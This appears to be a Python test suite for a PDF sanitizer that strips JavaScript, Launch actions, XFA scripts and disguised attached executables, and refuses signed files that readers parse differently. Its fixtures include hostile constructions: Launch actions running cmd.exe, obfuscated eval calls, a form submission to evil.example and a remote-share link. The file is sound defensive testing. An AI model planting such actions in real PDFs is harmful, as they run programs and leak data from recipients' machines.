"""What acts by itself is taken out of a document wherever it stands; the rest stays, and text is text."""

import gzip
from io import BytesIO
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, ObjectStreamMode, String

from media.errors import Code, RejectedError
from tests.unit.handlers.scan.documents.conftest import Inspector
from tests.unit.handlers.scan.documents.samples import (
    Change,
    annotated,
    attached,
    document,
    field,
    named_script,
    opening,
    script,
    signed,
    texts,
    xfa,
)

CORPUS = Path(__file__).parents[5] / "../shared/corpus"
ADDRESS = "https://clinic.example/Launch/JavaScript"
ATTACHMENT_SCRIPT = 'var v = app.viewerVersion; if (v < 7) { app.alert("Use Acrobat 7 to see the attachments."); }'
TEMPLATE = b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><field name="a">%s</field></template>'
FORM = (b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">', b"</xdp:xdp>")
CALCULATED = b"<event activity='click'><script>xfa.host.messageBox('x')</script></event>"
DATA = b'<xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><script>a novel</script></xfa:datasets>'


def action(kind: str, **entries: str) -> Dictionary:
    """Return a new action: one belongs to the document that it was first put into."""
    return Dictionary({"/S": Name(f"/{kind}")} | {f"/{name}": String(text) for name, text in entries.items()})


def linked(kind: str, **entries: str) -> Change:
    def change(pdf: pikepdf.Pdf) -> None:
        annotated(A=action(kind, **entries))(pdf)

    return change


def opened(kind: str, **entries: str) -> Change:
    def change(pdf: pikepdf.Pdf) -> None:
        opening(action(kind, **entries))(pdf)

    return change


def print_by_name(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.Named, N=Name.Print)


def jump(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))


def view(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Array([0, Name.FitH, 800])


def disguised(**entries: Any) -> Change:
    def change(pdf: pikepdf.Pdf) -> None:
        launch = action("Launch", F="cmd")
        for name, value in entries.items():
            launch[f"/{name}"] = value
        opening(launch)(pdf)

    return change


def indirect_name(pdf: pikepdf.Pdf) -> None:
    annotated(A=Dictionary(S=pdf.make_indirect(Name.Launch), F=String("cmd.exe")))(pdf)


def rich_media(pdf: pikepdf.Pdf) -> None:
    annotated(RichMediaContent=Dictionary(Assets=Dictionary()))(pdf)
    pdf.pages[0].obj.Annots[0].Subtype = Name.RichMedia


def chain(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([pdf.make_indirect(action("Launch", F="cmd.exe"))])
    )


def unreferenced(pdf: pikepdf.Pdf) -> None:
    """An action that only a field of the document information refers to."""
    pdf.trailer.Info = pdf.make_indirect(Dictionary(Custom=pdf.make_indirect(script())))


ACTING = {
    "JavaScript when it opens": (opened("JavaScript", JS="app.alert(1)"), "JavaScript", "app.alert"),
    "JavaScript in the name tree": (named_script("app.alert(1)"), "JavaScript", "app.alert"),
    "JavaScript of a link": (linked("JavaScript", JS="app.alert(1)"), "JavaScript", "app.alert"),
    "JavaScript of a page": (
        lambda pdf: pdf.pages[0].obj.__setattr__("AA", Dictionary(O=script())),
        "JavaScript",
        "app",
    ),
    "JavaScript of a field": (field(K='AFDate_KeystrokeEx("d/m"); eval(event.value)'), "JavaScript", "eval"),
    "JavaScript in disguise": (field(F='this["ev" + "al"]("1")'), "JavaScript", '"ev"'),
    "a script in a Rendition": (linked("Rendition", JS="x()"), "JavaScript", "x()"),
    "a script elsewhere": (unreferenced, "JavaScript", "app.alert"),
    "Launch": (opened("Launch", F="cmd.exe"), "start of another program", "Launch"),
    "Launch with an empty script": (opened("Launch", F="cmd.exe", JS=""), "start of another program", "cmd.exe"),
    "Launch as an attachment": (disguised(EF=Dictionary()), "start of another program", "cmd"),
    "Launch as a part of the structure": (disguised(Type=Name.StructElem), "start of another program", "cmd"),
    "Launch by a name elsewhere": (indirect_name, "start of another program", "cmd.exe"),
    "Launch after a jump": (chain, "start of another program", "Launch"),
    "SubmitForm": (linked("SubmitForm", F="http://evil.example/"), "sending of form data", "SubmitForm"),
    "ImportData": (linked("ImportData", F="a.fdf"), "import of data", "ImportData"),
    "RichMedia": (rich_media, "embedded player (rich media)", "RichMedia"),
    "XFA": (xfa(FORM[0], TEMPLATE % CALCULATED, FORM[1]), "script of an XFA form", "messageBox"),
    "an address when it opens": (opened("URI", URI=ADDRESS), "address or file that opens by itself", "clinic"),
    "a share on another machine": (
        linked("GoToR", F=r"\\evil.example\share\a.pdf"),
        "address or file that opens by itself",
        "GoToR",
    ),
    "a link that runs": (
        linked("URI", URI="java\nscript:app.alert(1)"),
        "address or file that opens by itself",
        "alert",
    ),
    "a program by name": (attached("invoice.pdf.exe", b"anything"), "attached program", "invoice"),
    "a program by content": (attached("notes.txt", b"MZ\x90\0" + bytes(99)), "attached program", "notes.txt"),
}

PASSING = {
    "Acrobat's format functions": field(F='AFDate_FormatEx("dd.mm.yyyy");', K='AFDate_KeystrokeEx("dd.mm.yyyy");'),
    "Acrobat's sums": field(C='AFSimple_Calculate("SUM", new Array ("value1", "value2"));'),
    "Acrobat's script for attachments": named_script(ATTACHMENT_SCRIPT, "ADBE::FileAttachmentsCompatibility"),
    "print": opened("JavaScript", JS="this.print({bUI: true, bSilent: false});"),
    "print by name": print_by_name,
    "an empty name tree": lambda pdf: pdf.Root.__setattr__("Names", Dictionary(JavaScript=Dictionary(Names=Array([])))),
    "links": linked("URI", URI=ADDRESS),
    "a link that does nothing": linked("URI", URI="javascript:void(0);"),
    "a jump when it opens": jump,
    "a view when it opens": view,
    "an attached table": attached("lab.csv", b"a;b\n"),
    "an XFA form without scripts": xfa(FORM[0], TEMPLATE % b"<value/>", DATA, FORM[1]),
    "names in titles": lambda pdf: pdf.docinfo.__setitem__("/Title", "/Launch /JS (x) /S /JavaScript <</XFA 5 0 R>>"),
    "names in metadata": lambda pdf: pdf.Root.__setattr__("Metadata", pdf.make_stream(b"<x>/Launch /JS (a)</x>")),
    "names in a page": lambda pdf: pdf.pages[0].contents_add(b"BT (/S /JavaScript /JS (x)) Tj ET"),
    "a role that is called so": lambda pdf: pdf.Root.__setattr__(
        "StructTreeRoot", Dictionary(K=Dictionary(Type=Name.StructElem, S=Name.Launch))
    ),
}


@pytest.mark.parametrize("mode", [ObjectStreamMode.generate, ObjectStreamMode.disable])
@pytest.mark.parametrize("kind", ACTING)
async def test_what_acts_is_taken_out(kind: str, mode: ObjectStreamMode, inspector: Inspector) -> None:
    change, words, trace = ACTING[kind]
    ended = await inspector.inspect(document(change, object_stream_mode=mode))
    assert ended.is_rewritten
    assert dict(ended.found.removed) == {words: 1}
    assert trace not in texts(ended.served)
    again = await inspector.inspect(ended.served)
    assert (again.found.removed, again.found.pages, again.is_rewritten) == ({}, 1, False)


@pytest.mark.parametrize("kind", PASSING)
async def test_what_formats_prints_or_links_is_served_as_it_is(kind: str, inspector: Inspector) -> None:
    ended = await inspector.inspect(document(PASSING[kind]))
    assert (ended.found.removed, ended.found.repaired, ended.is_rewritten) == ({}, "", False)


async def test_the_rest_of_a_document_survives(inspector: Inspector) -> None:
    content = document(
        linked("URI", URI=ADDRESS),
        attached("lab.csv", b"a;b\n"),
        attached("a.exe", b""),
        opened("JavaScript", JS="app.alert(1)"),
        pages=3,
    )
    ended = await inspector.inspect(content)
    with pikepdf.open(BytesIO(ended.served)) as pdf:
        assert list(pdf.attachments) == ["lab.csv"]
        assert String(ADDRESS) == pdf.pages[0].obj.Annots[0].A.URI
    assert (ended.found.pages, ended.found.removed) == (3, {"JavaScript": 1, "attached program": 1})


async def test_data_of_a_form_is_data(inspector: Inspector) -> None:
    ended = await inspector.inspect(document(xfa(FORM[0], TEMPLATE % CALCULATED, DATA, FORM[1])))
    assert "a novel" in texts(ended.served)


@pytest.mark.parametrize("change", [opened("JavaScript", JS="app.alert(1)"), attached("a.exe", b"MZ")])
async def test_a_signed_document_that_acts_is_refused_with_a_way_out(change: Change, inspector: Inspector) -> None:
    with pytest.raises(RejectedError, match="Print it to PDF") as caught:
        await inspector.inspect(document(signed, change))
    assert caught.value.code is Code.ACTIVE_CONTENT


@pytest.mark.parametrize("before", [b"", b"line before\n"])
async def test_a_signed_document_that_is_harmless_is_never_rewritten(before: bytes, inspector: Inspector) -> None:
    content = before + document(signed, linked("URI", URI=ADDRESS))
    assert (await inspector.inspect(content)).served == content


PADDED = "x" * 64
TWICE = b"/OpenAction <</S/JavaScript/JS(x)>> /OpenAction null".ljust(len(b"/Padded ()") + len(PADDED))
HIDDEN = b"""endobj 1 0 obj <</Type/Catalog/Pages 3 0 R/Names<</JavaScript<</Names[(a) 9 0 R]>>>>>>
endobj 9 0 obj <</S/JavaScript/JS(x)>> endobj
2 0 obj"""
"""Objects in the middle of a line, which PDFium finds when it rebuilds a table, and qpdf does not."""


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b"\nxref\n", b"\nlost\n"),
        (b"endobj\n2 0 obj", HIDDEN),
        (f"/Padded ({PADDED})".encode(), TWICE),  # the last of two entries is the one of most readers
    ],
)
async def test_a_signed_document_that_readers_take_differently_is_refused(
    old: bytes, new: bytes, inspector: Inspector
) -> None:
    def padded(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Padded = String(PADDED)

    content = document(signed, padded, object_stream_mode=ObjectStreamMode.disable)
    assert old in content
    with pytest.raises(RejectedError, match="Print it to PDF") as caught:
        await inspector.inspect(content.replace(old, new, 1))
    assert caught.value.code is Code.ACTIVE_CONTENT


async def test_a_signed_document_with_a_common_error_is_never_rewritten(inspector: Inspector) -> None:
    content = document(signed, object_stream_mode=ObjectStreamMode.disable).replace(b"\nxref", b"\n xref")
    assert (await inspector.inspect(content)).served == content


def expectations() -> dict[str, str]:
    """Return the expected outcome of each document of the corpus."""
    manifest = CORPUS / "MANIFEST.tsv"
    lines = manifest.read_text(encoding="utf-8").splitlines() if manifest.is_file() else []
    rows = (line.split("\t") for line in lines)
    return {row[0]: row[7] for row in rows if row[0].startswith("documents/") and (CORPUS / row[0]).is_file()}


async def test_documents_of_the_corpus_end_as_expected(inspector: Inspector) -> None:
    if not (wanted := expectations()):
        pytest.skip("the shared corpus is not beside the repository")
    assert {*wanted.values()} == {"ready"}
    for name in wanted:
        content = (CORPUS / name).read_bytes()
        ended = await inspector.inspect(gzip.decompress(content) if name.endswith(".gz") else content)
        assert ended.found.pages >= 1, name
        assert not ended.found.removed, name
